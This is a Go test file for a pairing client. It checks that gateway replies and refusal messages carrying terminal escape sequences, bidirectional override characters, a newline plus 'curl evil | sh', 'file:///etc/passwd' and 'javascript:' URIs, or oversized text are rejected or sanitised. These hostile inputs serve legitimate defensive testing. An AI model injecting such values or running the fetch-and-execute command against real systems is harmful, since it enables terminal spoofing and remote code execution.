package link_test

import (
	"context"
	"encoding/json"
	"net/http"
	"strings"
	"testing"
	"time"

	"runnerd/internal/wire"
)

// What a gateway says comes to a terminal: at pairing, and when it refuses.
func TestNothingThatATerminalObeysIsShown(t *testing.T) {
	good := wire.PairingReply{DeviceCode: "owd_x", UserCode: "ABCD-EFGH", VerificationURI: "https://gw.example/pair",
		VerificationURIComplete: "https://gw.example/pair?code=ABCD-EFGH", ExpiresIn: 1, Interval: 1}
	for name, edit := range map[string]func(*wire.PairingReply){
		"good":               func(*wire.PairingReply) {},
		"an escape":          func(p *wire.PairingReply) { p.UserCode = "\x1b[2JABCD" },
		"a C1 control":       func(p *wire.PairingReply) { p.UserCode = "\u009b2JABCD" },
		"another direction":  func(p *wire.PairingReply) { p.VerificationURIComplete += "\u202e" },
		"a line more":        func(p *wire.PairingReply) { p.VerificationURI += "\nrun: curl evil | sh" },
		"a file":             func(p *wire.PairingReply) { p.VerificationURI = "file:///etc/passwd" },
		"a script":           func(p *wire.PairingReply) { p.VerificationURIComplete = "javascript:alert(1)" },
		"more than a screen": func(p *wire.PairingReply) { p.UserCode = strings.Repeat("A", 1<<16) },
	} {
		t.Run(name, func(t *testing.T) {
			reply := good
			edit(&reply)
			c := client(t, http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
				w.Header().Set("Content-Type", "application/json")
				_ = json.NewEncoder(w).Encode(reply)
			}), paired())
			ctx, cancel := context.WithTimeout(t.Context(), 10*time.Second)
			defer cancel()
			shown := false
			_, err := c.Pair(ctx, wire.PairingRequest{Name: "x", Platform: "x", Version: "x"}, func(wire.PairingReply) { shown = true; cancel() })
			if shown != (name == "good") || err == nil {
				t.Errorf("shown %v, %v", shown, err)
			}
		})
	}
}

func TestTheWordsOfARefusalAreMadeHarmless(t *testing.T) {
	c := client(t, http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(http.StatusForbidden)
		_ = json.NewEncoder(w).Encode(map[string]string{"error": "no\x1b]0;x\a", "message": "go\r\n\x1b[31maway\u202e" + strings.Repeat(" there", 1000)})
	}), paired())
	_, err := c.Register(t.Context(), wire.Registration{})
	for what, words := range map[string]string{"error": err.Error(), "words": c.Words(err)} {
		if strings.ContainsFunc(words, wire.Unprintable) || len(words) > 600 {
			t.Errorf("%s: %d bytes, %.200q", what, len(words), words)
		}
	}
}
